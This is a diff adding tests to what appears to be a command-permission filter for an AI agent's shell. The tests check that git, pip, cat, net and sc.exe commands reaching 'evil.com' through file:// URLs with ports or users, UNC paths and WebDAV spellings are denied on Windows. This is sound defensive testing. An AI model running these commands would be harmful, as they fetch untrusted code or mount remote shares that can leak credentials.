@@ -58,3 +58,34 @@ describe('PowerShell proxies: Start-BitsTransfer -ProxyList, and a proxy written
     ['Get-Content a.txt', 'allow'],
   ], 'pwsh', REPO_WINDOWS);
 });
+
+// `file://evil.com:22/r` and `file://u@evil.com/r`: Git for Windows and pip open `\\evil.com:22\r`
+// and `\\u@evil.com\r`, UNC servers no path reading accepts (a `:`), or read as WebDAV's `h@…`
+// (the server `u`). What Windows' redirectors make of them is not known: each name (not a port)
+// is a host reached. On linux git opens the path here and ignores the host.
+describe('file:// URLs with a port or user on a UNC server (were allowed)', () => {
+  const CONNECTING = [
+    'git clone file://evil.com:22/r', 'git clone file://u@evil.com/r', 'git clone file://u@evil.com:22/r', 'git fetch file://evil.com:22/r',
+    'git fetch file://u@evil.com/r', 'git remote add o file://evil.com:22/r', 'git remote add o file://u@evil.com/r',
+    'git submodule add file://evil.com:22/r', 'git submodule add file://u@evil.com/r', 'git ls-remote file://evil.com:/r',
+    'pip install file://evil.com:22/x', 'pip install file://u@evil.com/x', 'cat //evil.com:445/s/x', 'cat //u@evil.com/s/x',
+  ];
+  lineTable(DENY_EVIL, [
+    ...CONNECTING.map((line): [string, 'deny'] => [line, 'deny']),
+    // Precision: WebDAV's spelling reaches its host alone; this machine; a local file URL.
+    ['cat //evil.com@SSL@443/s/x', 'deny'], ['cat //good.com@SSL@443/s/x', 'allow'], ['git clone file://localhost:22/r', 'allow'],
+    ['git clone file://u@localhost/r', 'allow'], ['git clone file:///C:/src/r', 'allow'],
+  ], 'shell', REPO_WINDOWS);
+  lineTable(DENY_EVIL, [
+    ['git clone file://evil.com:22/r', 'deny'], ['git clone file://u@evil.com/r', 'deny'],
+    // (A native tool's `\\SERVER` word, read the same way: it asked, as a possible path.)
+    ['net view \\\\u@evil.com', 'deny'], ['sc.exe \\\\u@evil.com query', 'deny'], ['net use x: \\\\evil.com:22\\s', 'deny'],
+    ['net use x: \\\\evil.com@SSL@443\\s', 'deny'], ['net view \\\\good.com@SSL@443', 'allow'], ['net view \\\\server1', 'allow'],
+  ], 'pwsh', REPO_WINDOWS);
+  lineTable(DENY_EVIL, [
+    ['git clone file://evil.com:22/r', 'allow'], ['git clone file://u@evil.com/r', 'allow'], ['git fetch file://u@evil.com/r', 'allow'],
+    ['git submodule add file://evil.com:22/r', 'allow'], ['git remote add o file://u@evil.com/r', 'allow'],
+    // (pip refuses a file URL with a host on linux: denied all the same, as before.)
+    ['pip install file://u@evil.com/x', 'deny'],
+  ]);
+});
